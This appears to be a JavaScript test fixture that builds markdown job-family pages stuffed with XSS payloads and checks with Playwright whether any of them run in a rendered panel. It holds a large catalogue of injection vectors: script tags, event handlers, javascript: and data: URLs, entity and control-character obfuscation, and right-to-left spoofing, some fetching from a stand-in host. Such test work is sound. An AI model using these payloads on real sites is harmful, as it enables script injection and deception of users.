// @ts-check
// Pages that attack whoever reads them, in a panel or in a file that was exported.

/** No request may name it, and no console may say it. */
export const MARK = 'hostile-mark';
const HOST = `https://${MARK}.example`;
/** A script that is noticed when it runs. */
export const RUN = `console.log('${MARK}');alert('${MARK}');fetch('${HOST}/f')`;

const RIGHT_TO_LEFT = '\u202E';

/** @type {readonly string[]} */
export const ATTACKS = [
  `<script>${RUN}</script>`,
  `<script src="${HOST}/s.js"></script>`,
  `<img src="${HOST}/i.png" onerror="${RUN}">`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script><image href="${HOST}/v.png"/></svg>`,
  `<iframe src="javascript:${RUN}" srcdoc="<script>${RUN}</script>"></iframe>`,
  `<style>@import url(${HOST}/c.css); * { background: url(${HOST}/b.png) }</style>`,
  `<link rel="stylesheet" href="${HOST}/l.css"><link rel="prefetch" href="${HOST}/p"><base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/m">`,
  `<form action="${HOST}/form"><input name="x" autofocus onfocus="${RUN}"></form>`,
  `<video src="${HOST}/v.mp4" autoplay></video><audio src="${HOST}/a.mp3" autoplay></audio><object data="${HOST}/o"></object><embed src="${HOST}/e">`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `![a picture](${HOST}/picture.png "x\\" onerror=\\"${RUN}")`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)`,
  `[a script](javascript:${encodeURI(RUN)})`,
  `[data](data:text/html,<script>${encodeURI(RUN)}</script>)`,
  `[vbscript](vbscript:${MARK}) [file](file:///etc/passwd) [command](command:workbench.action.closeWindow)`,
  `<javascript:${RUN.replaceAll(' ', '')}>`,
  `{{< script "${HOST}/short.js" >}} {{% html "<script>${RUN}</script>" %}} {{< figure src="${HOST}/figure.png" onload="${RUN}" >}}`,
  `\`<img src=x onerror="${RUN}">\` &lt;script&gt;${RUN}&lt;/script&gt;`,
  `**bold**{onclick="${RUN}"} text {style="background:url(${HOST}/attribute.png)"}`,
  // What ends that which a page's text stands in.
  `</style></script></title></textarea></noscript>--> ]]> <![CDATA[<script>${RUN}</script>]]> <?xml-stylesheet href="${HOST}/x.css"?>`,
  `</text></svg></li></ul></td></table></main></body><script>${RUN}</script>`,
  // A script's address behind entities, control characters, blanks and capitals.
  `[entities](&#106;avascript&colon;${encodeURI(RUN)}) [hex](&#x6A;&#x61;vascript:${MARK}) [tab](<java\tscript:${MARK}>)`,
  `[control](\u0001javascript:${MARK}) [blank](< javascript:${MARK}>) [capitals](JaVaScRiPt:${MARK})`,
  `[reference][evil] ![picture][evil] [relative](//${MARK}.example/relative) [encoded](javascript%3A${MARK})`,
  `${RIGHT_TO_LEFT}gnp.exe [${RIGHT_TO_LEFT}moc.elpmaxe](https://good.example/a?b="onmouseover="${RUN.replaceAll(' ', '')}) \u0007\u001B[31m\uFFFE`,
];

const bullets = ATTACKS.map(attack => `- ${attack}`).join('\n');
const prose = `${ATTACKS.join('\n\n')}\n\n[evil]: javascript:${MARK}\n`;
const title = (/** @type {string} */ name) => `${name} <img src=x onerror="${RUN}"> "quoted' & [x](javascript:${MARK})`;

/** The page that is opened. */
export const HOSTILE_PAGE = 'content/job-families/engineering/hostile.md';
/** The titles of two levels of it, without what attacks. */
export const HOSTILE_LEVEL = 'Hostile Engineer';
export const HIGHER_HOSTILE_LEVEL = 'Senior Hostile Engineer';
/** The family that this page reports to, in a folder and a file whose names attack too. */
export const HOSTILE_FAMILY = 'Hostile Management';
export const HOSTILE_LEADER = 'Hostile Manager';

/** Files of Windows cannot be called so. */
const isTame = process.platform === 'win32';
const folder = isTame ? "a 'quoted' & department" : `"><img src=x onerror=${MARK}> 'quoted' &lt; ${RIGHT_TO_LEFT}department`;
const name = isTame ? "a 'quoted' & family" : `" onload="${MARK}" x='y' <script>${MARK}(1)`;
const HOSTILE_NAMED_PAGE = `content/job-families/${folder}/${name}.md`;

const page = `---
title: "Hostile </title><script>${RUN.replaceAll("'", '`')}</script>"
description: "</style><script>${RUN.replaceAll("'", '`')}</script>"
---

## Responsibilities

${bullets}

${prose}

## Levels

### ${title(HOSTILE_LEVEL)} {#x"onclick="${MARK}}

The Hostile Engineer <b onclick="${RUN}">reports</b> to the ${HOSTILE_LEADER}.

#### Job Grade

The Hostile Engineer is a grade 6.

#### Responsibilities

${bullets}

| a | b |
|---|---|
| ${ATTACKS[2]} | ${ATTACKS[12]} |

> ${ATTACKS[0]}

### ${HIGHER_HOSTILE_LEVEL}

The ${HIGHER_HOSTILE_LEVEL} reports to the ${HOSTILE_LEADER}.

#### Job Grade

The Senior Hostile Engineer is a [grade 7](javascript:${encodeURI(RUN)}).

#### Responsibilities

- Extends the Hostile Engineer responsibilities
${bullets.replaceAll('bold', 'bolder').replaceAll('a script', 'another script')}

## Career Ladder

${prose}
`;

const namedPage = `---
title: '${HOSTILE_FAMILY} </text></svg><script>${RUN.replaceAll("'", '`')}</script> ${RIGHT_TO_LEFT}]]>'
---

## Levels

### ${HOSTILE_LEADER}

The ${HOSTILE_LEADER} ${RIGHT_TO_LEFT}leads.

#### Job Grade

The ${HOSTILE_LEADER} is a grade 9.

#### Responsibilities

${bullets}

### ${title('Senior Hostile Manager')} ${RIGHT_TO_LEFT} {#</style><script>${MARK}}

#### Job Grade

The Senior Hostile Manager is a grade 10.

#### Responsibilities

- Extends the [${HIGHER_HOSTILE_LEVEL}](/job-families/engineering/hostile/#senior-hostile-engineer) responsibilities
${bullets}

## Career Ladder

Next comes [<img src=x onerror="${RUN}"> ${RIGHT_TO_LEFT} hostile](/job-families/engineering/hostile/), or [${title('nothing')}](javascript:${MARK}).
`;

/** One whose address attacks, and what a text file seldom holds. */
const addressPage = `---
title: "\\u202E\\0Hostile Address"
url: "/job-families/' onload=${MARK} <b>//@${MARK}.example/"
---

## Job Grade

The Hostile Address is a grade 8.

## Responsibilities

- [nul](java\u0000script:${MARK}) [escape](\u001Bjavascript:${MARK}) <scr\u0000ipt>${RUN}</scr\u0000ipt>
${bullets}

## Career Ladder

Next comes [hostile](/job-families/engineering/hostile/).
`;

/** Paths to texts. @type {Readonly<Record<string, string>>} */
export const hostilePages = {
  [HOSTILE_PAGE]: page,
  [HOSTILE_NAMED_PAGE]: namedPage,
  'content/job-families/engineering/hostile-address.md': addressPage,
};

/**
 * Notes whatever a hostile page brings about in a browser. The first two are heard of the whole browser page.
 *
 * @param {import('playwright-core').Page} page
 * @param {(what: string) => void} note
 */
export function listenTo(page, note) {
  page.on('console', message => {
    // Who quotes a page, as VS Code does where a line is too long to be coloured, says more than the mark.
    const text = message.text();
    if (text === MARK || text.includes('Content Security Policy')) note(`console: ${text.slice(0, 300)}`);
  });
  page.on('dialog', dialog => {
    if (dialog.message().includes(MARK)) note(`dialog: ${dialog.message().slice(0, 300)}`);
    void dialog.dismiss();
  });
  page.context().on('request', request => {
    if (request.url().includes(MARK)) note(`request: ${request.url().slice(0, 300)}`);
  });
  page.context().on('page', opened => note(`window: ${opened.url()}`));
}

/**
 * Run in a document that shows hostile pages: what it says of them that is not written from left to right, since a text of theirs before it
 * turned the direction.
 *
 * @returns {string[]}
 */
export function backwards() {
  return [...document.querySelectorAll('.meta, .note, .from, summary')].flatMap(element => {
    const node = document.createTreeWalker(element, NodeFilter.SHOW_TEXT).nextNode();
    const words = node?.textContent ?? '';
    if (!node || words.length < 2) return [];
    const at = (/** @type {number} */ offset) => {
      const range = document.createRange();
      range.setStart(node, offset);
      range.setEnd(node, offset + 1);
      return range.getBoundingClientRect();
    };
    const [first, second] = [at(0), at(1)];
    return first.top === second.top && first.left > second.left ? [words] : [];
  });
}
